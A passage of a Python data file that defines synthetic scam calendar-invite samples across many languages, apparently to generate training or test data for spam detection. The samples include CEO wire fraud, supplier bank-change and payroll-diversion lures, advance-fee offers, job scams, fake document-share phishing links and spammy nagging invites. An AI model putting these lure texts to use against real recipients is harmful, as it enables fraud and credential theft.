      ud="captcha-check-th.com", desc="Thai paste-this-command lure"),
    I("ar", "zimbra", "compromised", "تحديث برنامج الاجتماعات", "لن تتمكن من الانضمام إلى الاجتماع قبل تثبيت التحديث: {url}",
      ud="meet-update-ar.com", desc="Arabic meeting update lure"),
])

BEC = C("bec", "business e-mail compromise: CEO fraud, gift cards, supplier and payroll changes", fill=sfill, off=(0, 2), items=[
    I("en", "google", "lookalike", "Quick task", "Are you available? I need you to handle a small task for me discreetly. Reply here asap.",
      dom="{rlook}", fn="{rcompany} CEO", fa="ceo.office@{sdomain}", dkim_sel="google", desc="CEO task opener from Workspace on look-alike domain"),
    I("en", "o365", "free", "Urgent wire - confidential", "I'm in a meeting all afternoon. We need to settle an acquisition deposit today. Let me know the earliest you can process a wire and I'll send details.",
      dom="outlook.com", fn="{sname}", desc="CEO wire request from outlook.com"),
    I("en", "outlook", "lookalike", "Updated remittance details - effective immediately",
      "Dear Accounts,\nPlease note our bank details have changed due to an audit. All outstanding invoices should be paid to the new account below:\n"
      "Bank: First Coastal Bank\nAccount: 7719{n6}\nRouting: 0210{n4}\nPlease confirm once updated.", dom="{rlook}", rloc="accounts",
      desc="supplier bank-change request from look-alike domain"),
    I("en", "handrolled", "spoof", "Direct deposit update", "Hi, I changed banks. Can you update my direct deposit before this payroll run? I will send the new details.",
      fa="{rname}.{rlast}@{rdomain}", dom="{rdomain}", fn="{rfull}", rloc="payroll", gen=pylib(layout="mixed", ccte="7bit"),
      reply_to="{rname}{n4}@gmail.com", desc="payroll change spoofing an employee"),
    I("en", "icloud", "free", "Are you at your desk?", "Need a favor. Let me know when you're free, I'm about to board a flight.",
      fn="{sname}", desc="short BEC opener from iCloud"),
    I("en", "yahoo", "free", "Payroll update before Friday", "Hello, please update my direct deposit information before Friday's payroll. Let me know what you need.",
      fn="{sname}", rloc="hr", desc="payroll diversion from Yahoo"),
    I("en", "teams", "compromised", "Invoice {inv} - payment arrangements",
      "Hi {rname},\nFollowing our call, please find the invoice link. Note that our bank account has changed; the updated details are on the invoice.\n{url}",
      uk="sway", wrap="fwd-outlook", fwd_by=dict(dom="{sdomain}"), fwd_note="Forwarding the meeting invite with the invoice link as discussed.", desc="vendor account compromise with Teams invite"),
    I("de", "o365", "lookalike", "Vertrauliche Transaktion – Projekt Nordlicht",
      "Guten Tag {rname},\nich benötige Ihre Unterstützung bei einer vertraulichen Transaktion. Bitte sprechen Sie mit niemandem darüber. Ein Anwalt wird sich bei Ihnen melden.",
      dom="{rlook}", fn="Geschäftsführung", desc="German CEO fraud"),
    I("fr", "google", "free", "Changement de coordonnées bancaires",
      "Bonjour,\nSuite à un changement de banque, merci d'utiliser notre nouveau RIB pour les prochains règlements. Je vous l'envoie dès votre confirmation.",
      rloc="comptabilite", desc="French supplier bank change"),
    I("es", "zimbra", "compromised", "Pago urgente a proveedor", "Necesito que gestione hoy un pago a un proveedor nuevo. Le paso los datos por aquí. Es confidencial.",
      desc="Spanish urgent supplier payment"),
    I("nl", "thunderbird", "lookalike", "Nieuwe bankgegevens voor facturen",
      "Beste {rname},\nOns rekeningnummer is gewijzigd. Gelieve openstaande facturen over te maken naar NL{n4}BANK0{n6}.",
      dom="{rlook}", desc="Dutch supplier bank change"),
    I("pl", "sogo", "lookalike", "Pilna płatność – poufne", "Proszę o pilne zlecenie przelewu dziś. Szczegóły prześlę po potwierdzeniu. Proszę nie dzwonić, jestem na spotkaniu.",
      dom="{rlook}", desc="Polish urgent payment request"),
    I("ja", "o365", "free", "至急ご対応ください", "お疲れ様です。\n極秘の案件で本日中にお願いしたいことがあります。ご対応可能でしたら返信ください。",
      dom="outlook.jp", fn="{sname}", desc="Japanese CEO fraud opener"),
])

ADVANCE = C("advance-fee", "advance-fee fraud: inheritances, compensation, partnership, lottery", fill=sfill, off=(1, 10), items=[
    I("en", "google", "free", "Next of kin - inheritance transfer",
      "Dear {rname},\nI am Barrister {sname}, personal attorney to the late engineer who shares your surname. He left USD 8.4M with no next of kin. "
      "I propose we work together to claim the funds. Kindly reply with your full name and direct phone number.", desc="next-of-kin inheritance"),
    I("en", "yahoo", "free", "Compensation payment - Fraud Victims Fund",
      "Your email has been approved for a compensation payment of $1,500,000. Contact the payment officer with your details and the release fee receipt.",
      fn="Compensation Committee", desc="fake compensation fund"),
    I("en", "outlook", "compromised", "Partnership proposal - USD 18.5M",
      "Good day,\nI am a senior manager at a bank and have a confidential business proposal worth USD 18.5M. Please treat as private and reply for details.",
      wrap="fwd-822", fwd_by=dict(dom="aol.com", same_dom=False), fwd_note="Please see the attached proposal and reply to me directly.", desc="banker partnership proposal from compromised account"),
    I("en", "zimbra", "compromised", "Grant award notification", "You have been awarded a $950,000 grant by the Foundation. Contact the claims agent to process your award.",
      dom="mail.cresthaven.edu", fn="Grant Committee", desc="grant award advance fee"),
    I("en", "icloud", "free", "Please help me", "I am Mrs {sname}, a widow suffering from cancer. I want to donate my late husband's fund of $4.5M to charity through you. Reply for details.",
      desc="dying-widow donation"),
    I("ar", "google", "free", "عرض شراكة استثمارية", "السلام عليكم،\nأنا مستشار مالي لعائلة ثرية تبحث عن شريك موثوق لاستثمار مبلغ 12 مليون دولار. أرجو الرد لمزيد من التفاصيل.",
      desc="Arabic investment partnership"),
    I("pt", "thunderbird", "free", "Herança não reclamada", "Prezado(a) {rname},\nexiste uma herança não reclamada de US$ 5,2 milhões em seu nome. Responda com seus dados completos.",
      desc="Portuguese unclaimed inheritance"),
    I("zh", "o365", "free", "跨国遗产继承合作", "您好，\n我是一名银行经理，有一笔无人认领的遗产希望与您合作处理，利润五五分成。请回复您的全名和电话。",
      dom="hotmail.com", desc="Chinese inheritance cooperation"),
    I("ru", "handrolled", "vps", "Компенсация за потерянные вклады", "Вам положена компенсация 384 000 ₽. Для получения оплатите госпошлину 2 900 ₽: {url}",
      dom="fond-kompensacii{n4}.ru", gen=php(prodid="-//Fond//RU"), cs="windows-1251", ccs="windows-1251", desc="Russian compensation fee"),
    I("hi", "apple", "free", "लॉटरी विजेता: $2,500,000", "बधाई हो! आपका ईमेल अंतरराष्ट्रीय लॉटरी में चुना गया है। दावा करने के लिए प्रोसेसिंग शुल्क जमा करें।",
      dom="gmail.com", infra="gmail", desc="Hindi lottery win"),
])

TASK = C("task-job-scam", "task and job scams moving victims to messengers", fill=sfill, off=(0, 4), items=[
    I("en", "google", "free", "Remote part-time role - $300-$800/day", "Hi {rname}, our HR team found your profile. Flexible hours, paid daily. Contact HR on WhatsApp: {wa}",
      fn="HR Team", desc="remote job lure to WhatsApp"),
    I("en", "zoom", "lookalike", "Interview: Data Entry Associate (remote)",
      "Thanks for your interest. The interview will take place on Telegram with our hiring manager: {tg}", dom="staffbridge-careers{n4}.com",
      fn="Talent Acquisition", desc="fake interview moved to Telegram"),
    I("en", "o365", "free", "Hi, this is Emily from the recruiting agency", "We have a simple online job: rate apps from home, 60-90 min a day. Add me on WhatsApp {wa}",
      fn="Emily", desc="app-rating task scam"),
    I("en", "yahoo", "free", "App optimization tasks - daily commission", "Complete 40 tasks a day and earn commission. Training is free. Telegram: {tg}",
      desc="task-commission scam"),
    I("en", "nextcloud", "vps", "Product reviewer onboarding", "Welcome aboard! Your mentor will guide you through the first tasks. Register: {url}",
      dom="reviewhub-jobs{n4}.com", desc="product-review job from VPS Nextcloud"),
    I("zh-tw", "google", "free", "在家兼職 日賺3000元", "您好，我們正在招募線上兼職人員，時間自由，日結薪資。\n請加LINE：job{n4}", tz="Asia/Taipei",
      desc="Traditional Chinese part-time job lure"),
    I("th", "zoom", "corp", "สัมภาษณ์งานออนไลน์ – ตำแหน่งแอดมิน", "รายได้วันละ 1,500-3,000 บาท ทำงานที่บ้าน\nติดต่อไลน์: @work{n4}", method="REQUEST",
      dom="thaijob-center.com", desc="Thai job interview via Zoom"),
    I("hi", "o365", "free", "घर बैठे काम – प्रतिदिन ₹5000", "नमस्ते, हमारे पास ऑनलाइन काम है। टेलीग्राम पर संपर्क करें: {tg}", dom="outlook.com",
      desc="Hindi work-from-home lure"),
    I("es", "handrolled", "vps", "Trabajo desde casa: 200 € al día", "Buscamos personas para tareas sencillas desde el móvil. Escríbenos por WhatsApp: {wa}",
      dom="empleo-facil{n4}.com", gen=node(), desc="Spanish task scam"),
    I("ko", "apple", "free", "재택 부업 모집 (일 10만원 이상)", "간단한 작업으로 매일 수익을 얻으세요. 카카오톡 오픈채팅: {url}", uk="short", dom="naver.com",
      desc="Korean side-job scam"),
    I("tr", "booking", "esp", "Evden çalış – günlük 2.000 TL", "Başvurunuz onaylandı. Eğitim için Telegram grubuna katılın: {tg}",
      dom="isfirsati-kariyer.com", fa="ik@{sdomain}", gen=esp("Kariyer", "egitim.ics"), method="PUBLISH", desc="Turkish work-from-home scam"),
])

DOCSHARE = C("compromised-doc-share", "document-share lures from compromised partner mailboxes", fill=sfill, off=(0, 3), items=[
    I("en", "o365", "compromised", "Shared: RFP Response - {rcompany}.pdf",
      "{sname} shared a file with you.\n\nRFP Response - {rcompany}.pdf\n\nOpen: {url}\n\nThis link will only work for direct recipients.",
      ud="{sdomain}-my.sharepoint.com.docview-{n4}.com", fn="{sname}", desc="SharePoint-style share from compromised partner"),
    I("en", "google", "compromised", "Proposal review", "Hi {rname}, please review the attached proposal before our call.",
      att=[("https://drive.google.com/file/d/1{tok2}/view?usp=drive_web", "application/pdf", "Proposal_{year}.pdf")],
      loc="{url}", uk="docs", desc="Drive attachment plus lure link in LOCATION"),
    I("en", "outlook", "compromised", "Payment Advice - Remittance {ref}", "Please find attached the payment advice for your records.\nView: {url}",
      uk="blob", desc="remittance advice lure"),
    I("en", "zimbra", "compromised", "New document shared via OneDrive", "You have received a secure document from {scompany}. Access: {url}",
      uk="firebase", desc="OneDrive lure from compromised Zimbra"),
    I("en", "thunderbird", "compromised", "Signed contract - please confirm", "Attached is the signed contract. Please confirm receipt.\n{url}",
      uk="canva", desc="signed-contract lure from compromised Thunderbird user"),
    I("en", "sogo", "compromised", "Updated membership documents", "Dear members, please review the updated documents before the meeting: {url}",
      wrap="list", list=dict(domain="lists.rowan-society.org", name="members", tag="Members", munge=False, software="mailman3"),
      uk="notion", desc="share lure posted to a mailing list from a compromised member"),
    I("de", "teams", "compromised", "Angebot_2025.pdf wurde für Sie freigegeben", "Hallo {rname},\nanbei das aktualisierte Angebot zur Prüfung:\n{url}",
      uk="blob", desc="German quote-share lure via Teams"),
    I("it", "o365", "compromised", "Documento condiviso: Fattura_0923.pdf", "Buongiorno,\nle inoltro la fattura in allegato.\n{url}",
      uk="sway", desc="Italian invoice share"),
    I("pt", "google", "compromised", "Proposta comercial revisada", "Olá {rname}, segue a proposta revisada para sua análise.", url="{url}",
      uk="webapp", wrap="fwd-gmail", fwd_by=dict(dom="gmail.com", same_dom=False), fwd_note="Segue o convite.", desc="Portuguese proposal share, link in URL property"),
    I("el", "apple", "compromised", "Κοινοποίηση εγγράφου", "Σας έστειλα το έγγραφο για υπογραφή.\n{url}", uk="pages",
      dom="oikonomou-accountants.gr", infra="own", desc="Greek document share via Calendar.app from compromised domain"),
    I("he", "nextcloud", "compromised", "מסמך משותף: הצעת מחיר", "שלום,\nמצורף קישור להצעת המחיר המעודכנת: {url}", uk="r2",
      desc="Hebrew quote share"),
    I("ru", "outlook", "compromised", "Акт сверки за квартал", "Добрый день!\nНаправляем акт сверки для подписания: {url}", uk="ipfs",
      cs="windows-1251", desc="Russian reconciliation-statement lure"),
])

NAG = C("nagging-payload", "nagging payloads: endless recurrence, many alarms, far-future dates", fill=sfill, off=(0, 1), items=[
    I("en", "handrolled", "vps", "⚠ Your iPhone is infected (3) viruses - clean now", "Tap to remove: {url}", rrule="FREQ=DAILY;INTERVAL=1",
      alarms=["-PT0M", "-PT1M", "-PT2M", "-PT5M", "-PT10M", "-PT15M", "-PT30M", "-PT1H", "-PT2H", "-PT4H"], dom="phone-clean{n4}.top",
      fn="Security Center", gen=bulk(), desc="daily endless virus warning with ten alarms"),
    I("en", "icloud", "free", "Claim your $1000 reward", "{url}", rrule="FREQ=DAILY", alarms=["-PT0M", "-PT5M", "-PT30M"],
      ud="reward-claim{n4}.shop", desc="daily reward reminder"),
    I("en", "google", "free", "FINAL NOTICE: Norton subscription", "Call {tfn} to cancel.", rrule="FREQ=YEARLY;UNTIL=20991231T235959Z",
      alarms=["-P0DT0H1M0S", "-P0DT0H30M0S"], desc="yearly recurrence until 2099"),
    I("en", "yahoo", "free", "You have (1) pending payment", "Accept payment here: {url}",
      alarms=["-PT%dM" % i for i in range(0, 60, 3)], desc="twenty alarms three minutes apart"),
    I("en", "booking", "vps", "Your prize is waiting", "Claim: {url}", dom="prizebox-{n4}.top", fa="noreply@{sdomain}",
      gen=esp("PrizeBox", "event.ics"), method="PUBLISH",
      more=[dict(s="Your prize is waiting", d=i) for i in range(1, 12)], desc="twelve identical events in one calendar"),
    I("ja", "google", "free", "【警告】ウイルスに感染しています", "今すぐスキャン: {url}", rrule="FREQ=DAILY", alarms=["-PT0M", "-PT10M"],
      desc="Japanese daily virus warning"),
    I("ar", "apple", "free", "لقد ربحت جائزة", "{url}", rrule="FREQ=WEEKLY;BYDAY=MO,TU,WE,TH,FR,SA,SU", dom="icloud.com",
      alarms=["-PT5M", "-PT1H"], desc="Arabic prize every day of the week"),
    I("th", "apple", "free", "คุณได้รับรางวัล กดรับเลย", "{url}", rrule="FREQ=DAILY;INTERVAL=1", dom="hotmail.co.th", infra="freeprov",
      alarms=["-PT1M", "-PT2M", "-PT3M", "-PT4M", "-PT5M"], desc="Thai daily prize with many alarms"),
    I("el", "handrolled", "spoof", "Λογαριασμός σε αναστολή", "Επαληθεύστε: {url}", off=(25000, 27000), dom="cosmote.gr", fa="info@{sdomain}",
      fn="Cosmote", gen=pylib(), desc="Greek account suspension with an event decades in the future"),
    I("pl", "thunderbird", "vps", "Twoje konto wygasa", "Odnów teraz: {url}", rrule="FREQ=HOURLY;COUNT=720", dom="konto-odnow{n4}.pl",
      desc="Polish hourly reminder for a month"),
])

MASS = C("mass-invite", "mass invitations to hundreds of unrelated attendees", fill=sfill, off=(0, 2), items=[
    I("en", "google", "free", "Cheap meds online - 80% off, no prescription", "Viagra, Cialis, Xanax. Discreet shipping: {url}", mass=300,
      att_hook=mass_hook, desc="pharmacy spam to 300 guests"),
    I("en", "icloud", "free", "🎰 $500 casino bonus + 200 free spins", "Register today: {url}", mass=150, att_hook=mass_hook,
      desc="casino bonus to 150 guests"),
    I("en", "teams", "lookalike", "SEO partnership - page 1 on Google in 30 days", "We help businesses rank. Free audit: {url}",
      dom="rankboost-seo{n4}.onmicrosoft.com", ms_dkim="tenant", tenant="rankboost{n4}", mass=200, att_hook=mass_hook, to_all=True,
      desc="SEO pitch as Teams meeting to 200 attendees"),
    I("en", "yahoo", "free", "Replica watches - Swiss quality", "Rolex, Omega, Tag from $129: {url}", mass=120, att_hook=mass_hook,
      desc="replica watches to 120 guests"),
    I("en", "zoom", "corp", "FREE webinar: make $10k/month from home", "Join our free training.", method="REQUEST", dom="homeincome-pro.com",
      mass=180, att_hook=mass_hook, desc="income scheme Zoom invite to 180 attendees"),
    I("fr", "google", "free", "Casino en ligne : bonus de 500 € offert", "Inscrivez-vous : {url}", mass=250, att_hook=mass_hook,
      desc="French casino bonus to 250 guests"),
    I("nl", "nextcloud", "vps", "Afvallen zonder dieet – 10 kilo in 3 weken", "Bestel nu met 60% korting: {url}", dom="slank-nu{n4}.nl",
      mass=140, att_hook=mass_hook, desc="Dutch diet pills to 140 guests"),
    I("tr", "thunderbird", "free", "Yüksek oranlı bahis bonusu", "Hemen üye ol: {url}", mass=100, att_hook=mass_hook, wrap="list", list=dict(domain="googlegroups.com", name="istanbul-kosu-kulubu", tag=None, munge=True, software="googlegroups"), desc="Turkish betting bonus"),
    I("zh", "handrolled", "vps", "代开各类发票 正规税点", "联系：微信 fp{n4}  电话 139{n4}{n4}", dom="fp-{n4}.cn.com", mass=200, att_hook=mass_hook,
      gen=bulk(), cs="gb2312", ccs="gb2312", to_hdr="undisclosed-recipients:;", desc="Chinese fake-invoice spam to 200 attendees"),
    I("he", "icloud", "free", "הלוואה מהירה ללא בדיקות", "אישור תוך שעה: {url}", mass=160, att_hook=mass_hook, desc="Hebrew quick-loan spam"),
])

CATS = [RETAIL, PRIZE, CRYPTO, DATING, FEE, PHISH, CALLBACK, UPDATE, BEC, ADVANCE, TASK, DOCSHARE, NAG, MASS]
